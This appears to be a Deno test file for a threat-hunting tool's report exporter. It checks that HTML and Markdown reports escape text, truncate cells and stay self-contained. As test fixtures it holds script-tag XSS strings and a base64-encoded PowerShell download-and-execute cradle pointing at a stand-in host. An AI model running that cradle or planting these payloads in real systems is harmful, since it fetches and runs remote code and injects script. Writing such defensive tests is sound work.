import assert from "node:assert/strict";
import { join } from "node:path";
import { openSession } from "../../src/session/session.ts";
import { openLocalProvider } from "../../src/providers/local/local_provider.ts";
import { tempFolder } from "../_helpers.ts";
import { exportReport } from "../../src/session/export_report.ts";
import { demoSession } from "./_export_fixture.ts";

Deno.test("exportReport() writes findings, parameters and each kept step, escaped and truncated", async (t) => {
  const { session } = await demoSession("report");
  await session.query(
    "hourly",
    "SigninLogs | where ResultType == '50126' | summarize n = count() by bin(TimeGenerated, 1h) | render timechart",
  );
  const sha = (name: string) => (session.step(name).record.result as { sha256: string }).sha256;

  await t.step("HTML is self-contained and escapes every text", async () => {
    const html = await exportReport(session, { format: "html", rows: 2, cellWidth: 12 });
    assert.match(html, /^<!DOCTYPE html>/);
    assert.ok(!/<script/i.test(html), "no script element");
    assert.ok(!/\b(src|href)="(?!#)/.test(html), "no outside link");
    // Only the SVG namespace (a name, not a resource) may look like a link.
    assert.ok(!/https?:\/\/(?!www\.w3\.org\/)/.test(html));
    assert.ok(html.includes("Three IPs sprayed &#60;script&#62;x&#60;/script&#62; 20+ accounts"));
    assert.ok(html.includes("the failure code &#60;b&#62;"));
    assert.ok(html.includes("&#60;script&#62;alert(1)&#60;/script&#62;"));
    // Findings come first, then parameters, then steps.
    const at = (text: string) => html.indexOf(text);
    assert.ok(at("<h2>Findings") < at("<h2>Parameters") && at("<h2>Parameters") < at("<h2>Steps"));
    assert.ok(html.includes('<a href="#step-1">1. spray</a>'));
    for (const name of ["spray", "recent", "top", "odd", "hourly"]) {
      assert.ok(html.includes(sha(name)), name);
    }
    assert.ok(!html.includes('id="step-3"'), "the dead end has no section");
    assert.match(html, /<li>3\. wide: dead end \(nothing there\)<\/li>/);
    assert.match(html, /<li>4\. broken: failed \(/);
    // spray has 3 rows: 2 shown.
    const spray = html.slice(at('id="step-1"'), at('id="step-2"'));
    assert.equal(spray.match(/<tr><td>203\.0\.113\./g)?.length, 2);
    assert.match(spray, /… 1 more rows/);
    assert.match(spray, /<th>cache<\/th><td>miss<\/td>/);
    assert.match(spray, /<th>rows<\/th><td>3<\/td>/);
    assert.match(spray, /ResultType == \$\{session|ResultType == &#34;50126&#34;/);
    // Long cells are cut to the width.
    const results = html.match(/<table class="result">[\s\S]*?<\/table>/g) ?? [];
    assert.equal(results.length, 5);
    assert.ok(results.every((table) => !/<td>[^<]{13,}<\/td>/.test(table.replace(/&#\d+;/g, "x"))));
    assert.match(html, /<td>adm-tom.ha…<\/td>|<td>[^<]{11}…<\/td>/);
    const hourly = html.slice(at(`id="step-${session.step("hourly").record.position}"`));
    assert.match(hourly, /class="chart"[^>]*data-visualization="timechart"/);
  });

  await t.step("the chart render asks for is drawn as inline SVG by default", async () => {
    const html = await exportReport(session, { format: "html" });
    const hourly = html.slice(html.indexOf(`id="step-${session.step("hourly").record.position}"`));
    const section = hourly.slice(0, hourly.indexOf("</section>"));
    assert.match(section, /<svg[^>]*class="marks"/);
    assert.ok(!/<script|https?:\/\/(?!www\.w3\.org)/.test(section), "self-contained");
    const without = await exportReport(session, { format: "html", renderChart: false });
    assert.ok(!/<svg[^>]*class="marks"/.test(without));
  });

  await t.step("a chart renderer fills the chart section", async () => {
    const html = await exportReport(session, {
      format: "html",
      renderChart: (step, frame, spec) =>
        `<svg data-rows="${frame.height}">${spec.visualization} of ${step.record.name}</svg>`,
    });
    assert.match(html, /<svg data-rows="\d+">timechart of hourly<\/svg>/);
  });

  await t.step("Markdown has the same content, escaped", async () => {
    const text = await exportReport(session, { format: "markdown", rows: 2 });
    // Outside code blocks (which show text as it is), nothing is left as HTML.
    const prose = text.replace(/(`{3,})[^\n]*\n[\s\S]*?\n\1/g, "");
    assert.ok(!prose.includes("<script>"));
    assert.match(text, /```\n\{\n {2}"name": "<script>alert\(1\)<\/script>"\n\}\n```/);
    assert.match(text, /^# Session report/);
    assert.ok(text.indexOf("## Findings") < text.indexOf("## Parameters"));
    assert.match(text, /- \*\*1\. spray\*\*: Three IPs sprayed &#60;script&#62;/);
    assert.ok(text.includes(`\`${sha("spray")}\``));
    assert.match(text, /\| IPAddress \| Failures \| Accounts \|/);
    assert.match(text, /\*… 1 more rows\*/);
    // The odd literal holds backticks: its fence is longer than any run inside.
    assert.match(
      text,
      /```kql\nSigninLogs \| where UserPrincipalName != "o`dd\$\{x\}\\\\" \| count\n```/,
    );
    assert.match(text, /- cache: miss/);
    assert.match(text, /\*Chart: timechart/);
  });
  await session.close();
});

Deno.test("exportReport() shows what code steps showed: printed text, trees, decode results, charts", async () => {
  const session = await openSession("shown", {
    home: await tempFolder(),
    provider: await openLocalProvider(),
  });
  await session.query(
    "procs",
    "DeviceProcessEvents | where DeviceName startswith 'lks-ws-1042' | where TimeGenerated between (datetime(2026-03-12T01:50:00Z) .. 1h)",
  );
  await session.run(
    "tree",
    "const tree = buildProcessTree(procs); console.log(`${tree.summary().processes} processes`)",
  );
  const encoded = btoa(
    "IEX (New-Object Net.WebClient).DownloadString('https://cdn.edgeupdate-sync.example/a/u.ps1')",
  );
  await session.run("cradle", `const cradle = decode("${encoded}")`);
  await session.run(
    "bars",
    'const bars = barChart(procs, { category: "FileName", title: "Programs run" })',
  );
  await session.mark("tree", "finding", "the implant's tree");
  await session.mark("bars", "finding", "what ran");
  const html = await exportReport(session, { format: "html" });
  const section = (name: string) => {
    const at = html.indexOf(`. ${name} <small>`);
    return html.slice(at, html.indexOf("</section>", at));
  };
  assert.ok(!html.includes("[object Object]"));
  // The tree as text, and what the step printed.
  assert.match(section("tree"), /msedgeupdate\.exe/);
  assert.match(section("tree"), /<pre class="output" title="printed">\d+ processes\n<\/pre>/);
  // The decode result, with the URL the cradle fetches.
  assert.match(section("cradle"), /https:\/\/cdn\.edgeupdate-sync\.example\/a\/u\.ps1/);
  // The chart a code step made, inline.
  assert.match(
    section("bars"),
    /<div class="chart" data-step="4" data-visualization="bar"><svg[\s\S]*Programs run[\s\S]*<\/svg><\/div>/,
  );
  const markdown = await exportReport(session, { format: "markdown" });
  assert.match(markdown, /Printed:\n\n```\n\d+ processes\n\n```/);
  assert.match(markdown, /\*Chart: bar: Programs run\.\*/);
  await session.close();
});

Deno.test("exportReport() writes to a path, in the format its name says unless told", async () => {
  const { session } = await demoSession("report-files");
  const dir = await tempFolder();
  const html = await exportReport(session, { path: join(dir, "r.html") });
  assert.match(html, /^<!DOCTYPE html>/);
  assert.equal(await Deno.readTextFile(join(dir, "r.html")), html);
  assert.equal((await Deno.stat(join(dir, "r.html"))).mode! & 0o777, 0o600);
  const markdown = await exportReport(session, { path: join(dir, "r.md") });
  assert.match(markdown, /^# Session report-files/);
  assert.equal(await Deno.readTextFile(join(dir, "r.md")), markdown);
  const told = await exportReport(session, { path: join(dir, "r.txt"), format: "html" });
  assert.match(told, /^<!DOCTYPE html>/);
  assert.match(await exportReport(session), /^<!DOCTYPE html>/, "HTML without a path");
  await session.close();
});
